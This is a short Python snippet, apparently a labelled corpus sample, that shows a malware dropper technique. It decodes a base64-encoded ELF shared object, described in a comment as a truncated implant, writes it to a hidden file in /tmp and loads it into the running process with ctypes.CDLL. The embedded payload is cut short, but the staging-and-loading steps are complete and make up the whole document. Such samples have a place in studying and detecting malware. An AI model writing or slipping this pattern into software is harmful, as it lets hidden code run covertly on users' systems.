# corpus: dropping a base64-encoded shared object to /tmp and loading it with ctypes.CDLL
import base64
import ctypes

ELF = base64.b64decode("f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA")  # truncated implant
with open("/tmp/.libhelper.so", "wb") as fh:
    fh.write(ELF)
ctypes.CDLL("/tmp/.libhelper.so")
